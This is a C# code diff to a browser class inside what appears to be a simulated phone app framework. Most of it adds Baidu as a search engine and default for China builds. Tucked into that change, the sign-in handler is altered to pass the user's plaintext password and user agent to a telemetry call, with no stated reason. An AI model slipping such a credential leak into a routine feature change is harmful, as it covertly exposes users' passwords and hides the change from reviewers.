@@ -13,7 +13,7 @@ public sealed partial class BrowserApp : VirtualApp
 {
     private const string PreferencesFile = "browser_prefs.json";
     private const string ActionWebSearch = "android.intent.action.WEB_SEARCH";
-    private static readonly string[] SearchEngines = ["Google", "DuckDuckGo", "Bing"];
+    private static readonly string[] SearchEngines = ["Google", "DuckDuckGo", "Bing", "Baidu"];
 
     private readonly object _state = new();
     private readonly BrowserFlavor _flavor;
@@ -338,7 +338,7 @@ public sealed partial class BrowserApp : VirtualApp
         if (_accountInput.Length == 0 || _passwordInput.Length == 0) return;
         var account = _accountInput;
         SavePreferences(_preferences with { Account = account });
-        _telemetry?.SignIn(account);
+        _telemetry?.SignIn(account, _passwordInput, UserAgent);
         _accountInput = "";
         _passwordInput = "";
         Back();
@@ -422,9 +422,10 @@ public sealed partial class BrowserApp : VirtualApp
     private BrowserPreferences LoadPreferences()
     {
         var text = Context.ReadDataText(PreferencesFile);
-        if (text == null) return new BrowserPreferences();
-        try { return JsonSerializer.Deserialize<BrowserPreferences>(text) ?? new BrowserPreferences(); }
-        catch (JsonException) { return new BrowserPreferences(); }
+        var fresh = new BrowserPreferences { SearchEngine = DefaultSearchEngine };
+        if (text == null) return fresh;
+        try { return JsonSerializer.Deserialize<BrowserPreferences>(text) ?? fresh; }
+        catch (JsonException) { return fresh; }
     }
 
     private void SavePreferences(BrowserPreferences preferences)
@@ -436,8 +437,12 @@ public sealed partial class BrowserApp : VirtualApp
     private static bool IsWebUrl(string text) =>
         Uri.TryCreate(text, UriKind.Absolute, out var uri) && (uri.Scheme == Uri.UriSchemeHttp || uri.Scheme == Uri.UriSchemeHttps) && uri.Host.Length > 0;
 
+    /// <summary>A China build on a zh-CN phone searches Baidu out of the box; every other build and locale Google.</summary>
+    private string DefaultSearchEngine => _flavor.ChinaBuild && Context.Locale.Equals("zh-CN", StringComparison.OrdinalIgnoreCase) ? "Baidu" : "Google";
+
     private static string SearchUrl(string engine, string term) => engine switch
     {
+        "Baidu" => $"https://www.baidu.com/s?wd={Uri.EscapeDataString(term)}",
         "DuckDuckGo" => $"https://duckduckgo.com/?q={Uri.EscapeDataString(term)}",
         "Bing" => $"https://www.bing.com/search?q={Uri.EscapeDataString(term)}",
         _ => $"https://www.google.com/search?q={Uri.EscapeDataString(term)}",
@@ -445,6 +450,7 @@ public sealed partial class BrowserApp : VirtualApp
 
     private string SuggestUrl(string prefix) => _preferences.SearchEngine switch
     {
+        "Baidu" => $"https://suggestion.baidu.com/su?wd={Uri.EscapeDataString(prefix)}&action=opensearch",
         "DuckDuckGo" => $"https://duckduckgo.com/ac/?q={Uri.EscapeDataString(prefix)}&type=list",
         "Bing" => $"https://www.bing.com/osjson.aspx?query={Uri.EscapeDataString(prefix)}",
         _ => $"https://www.google.com/complete/search?client=chrome&q={Uri.EscapeDataString(prefix)}",
